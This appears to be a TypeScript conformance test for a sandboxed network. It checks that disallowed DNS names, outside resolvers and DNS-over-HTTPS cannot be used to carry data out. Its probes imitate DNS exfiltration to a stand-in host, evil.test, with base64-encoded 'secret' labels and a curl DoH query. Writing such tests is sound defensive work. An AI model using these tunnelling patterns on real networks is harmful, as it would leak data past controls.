/** Names carry nothing out of a cage: conformance cases N04 and N05. */
import assert from "node:assert/strict";
import { assertFetches, type Case, testCases } from "./support/internet/cases.ts";
import { formatQuery, formatTcpQuery, parseAnswer } from "../../src/verify/internet/dns_query.ts";
import { assertSilent } from "./support/internet/evidence.ts";
import { wasSeen } from "../../src/verify/internet/evidence.ts";
import { curl, raw, udp } from "../../src/verify/internet/probes.ts";

const UNKNOWN = ["evil.test", `${"a".repeat(60)}.c2VjcmV0.evil.test`, "c2VjcmV0.allowed.test"];
const TYPES = ["A", "AAAA", "TXT", "NULL", "HTTPS", "ANY"] as const;
const NXDOMAIN = 3;

const cases: Case[] = [
  ["N04 names that are not allowed, of every type, asked of everybody", async (given) => {
    const { internet, cage } = given;
    const asked = UNKNOWN.flatMap((name) =>
      TYPES.flatMap((type) =>
        ["@gateway", "@resolver", "127.0.0.11"].map((host) =>
          udp(`${type} ${name} ${host}`, { host, hex: formatQuery(name, { type }) })
        )
      )
    );
    const outcomes = await cage.probe([
      ...asked,
      raw("tcp", { host: "@gateway", port: 53, send: [formatTcpQuery("evil.test")] }),
      raw("tcp engine", { host: "127.0.0.11", port: 53, send: [formatTcpQuery("evil.test")] }),
      curl("doh", ["https://dns.evil.test/dns-query?name=c2VjcmV0"]),
    ]);
    assertSilent(await internet.events(), internet);
    for (const { id } of asked.filter(({ id }) => id.endsWith("@gateway"))) {
      assert.equal(parseAnswer(outcomes.get(id).data).rcode, NXDOMAIN, id);
    }
    // The control: one allowed fetch is one question of the gateway.
    await cage.probe([curl("fetch", ["https://allowed.test/"])]);
    const questions = (await internet.events()).filter((event) => event.kind === "dns");
    assert.deepEqual(questions.map(({ name, type }) => [name, type]), [["allowed.test", 1]]);
  }],
  ["N04 resolvers outside, over UDP, TCP and TLS", async ({ internet, cage }) => {
    const resolvers = [internet.addresses.decoy, internet.addresses.dns, "9.9.9.9"];
    const probes = resolvers.flatMap((host) => [
      udp(`udp ${host}`, { host, hex: formatQuery("evil.test") }),
      raw(`tcp ${host}`, { host, port: 53, send: [formatTcpQuery("evil.test")] }),
      raw(`tls ${host}`, { host, port: 853, tls: { sni: "evil.test" } }),
    ]);
    const outcomes = await cage.probe(probes);
    assertSilent(await internet.events(), internet);
    assert.deepEqual(outcomes.all.filter(({ reached }) => reached !== "nothing"), []);
    await internet.probe(probes);
    const events = await internet.events();
    for (const to of resolvers) {
      for (const [protocol, port] of [["udp", 53], ["tcp", 53], ["tcp", 853]] as const) {
        assert.ok(wasSeen(events, { protocol, to, port }), `${protocol} ${to}`);
      }
    }
  }],
  ["N04 allowed names have one address and nothing else", async ({ internet, cage }) => {
    const outcomes = await cage.probe([
      ...TYPES.map((type) => udp(type, { hex: formatQuery("allowed.test", { type }) })),
      udp("two questions", { hex: formatQuery("allowed.test", { count: 2 }) }),
      udp("no question", { hex: formatQuery("allowed.test", { count: 0 }) }),
      udp("half a message", { hex: formatQuery("allowed.test").slice(0, 30) }),
    ]);
    assertSilent(await internet.events(), internet);
    assert.equal(parseAnswer(outcomes.get("A").data).addresses.length, 1);
    for (const type of ["AAAA", "TXT", "NULL", "HTTPS"]) {
      const { rcode, answers } = parseAnswer(outcomes.get(type).data);
      assert.deepEqual([rcode, answers], [0, 0], type);
    }
    for (const id of ["two questions", "no question", "half a message"]) {
      const { data } = outcomes.get(id);
      assert.ok(data === "" || Number.parseInt(data.slice(6, 8), 16) % 16 !== 0, `${id}: ${data}`);
    }
  }],
  ["N05 names below an allowed zone are answered without asking anybody", async (given) => {
    const { internet, cage } = given;
    const name = `c2VjcmV0${crypto.randomUUID().slice(0, 8)}.wild.test`;
    const outcomes = await cage.probe(
      ["@gateway", "@resolver"].map((host) => udp(host, { host, hex: formatQuery(name) })),
    );
    for (const { data } of outcomes.all) assert.equal(parseAnswer(data).addresses.length, 1);
    assertSilent(await internet.events(), internet);
    await assertFetches(given, "http://www.wild.test/");
  }],
];

testCases("the names of a cage", { network: 'allow = ["allowed.test", "*.wild.test"]\n', cases });
